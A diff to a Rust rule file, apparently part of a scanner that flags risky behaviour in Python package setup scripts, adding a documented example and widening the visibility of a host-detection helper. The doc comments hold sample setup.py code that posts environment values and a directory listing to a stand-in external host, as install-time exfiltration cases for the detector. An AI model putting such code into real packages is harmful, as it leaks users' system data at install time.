@@ -23,6 +23,15 @@
 //! import os, requests
 //! requests.post('http://x.example.invalid', json=os.environ.get('LANG'))
 //! ```
+//!
+//! ## Good
+//!
+//! ```python setup.py
+//! import os, requests, subprocess
+//! from x.settings import setting
+//! listed = subprocess.check_output(['ls', '/opt'], env={**os.environ, 'LC_ALL': 'C'})
+//! requests.post('http://x.example.invalid', json={'term': setting(os.environ, 'TERM'), 'listed': listed})
+//! ```
 
 use fondaco_python::{Api, Call, Taint, Value};
 use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};
@@ -59,7 +68,7 @@ fn is_set_up(call: &Call) -> bool {
 }
 
 /// Whether a text says another machine: more than how one is talked to, and none that is this one.
-fn has_host(text: &str) -> bool {
+pub(super) fn has_host(text: &str) -> bool {
     text.split_once("://").is_some_and(|(_, host)| {
         host.starts_with(|c: char| c.is_ascii_alphanumeric()) && !host.starts_with("localhost") && !host.starts_with("127.")
     })
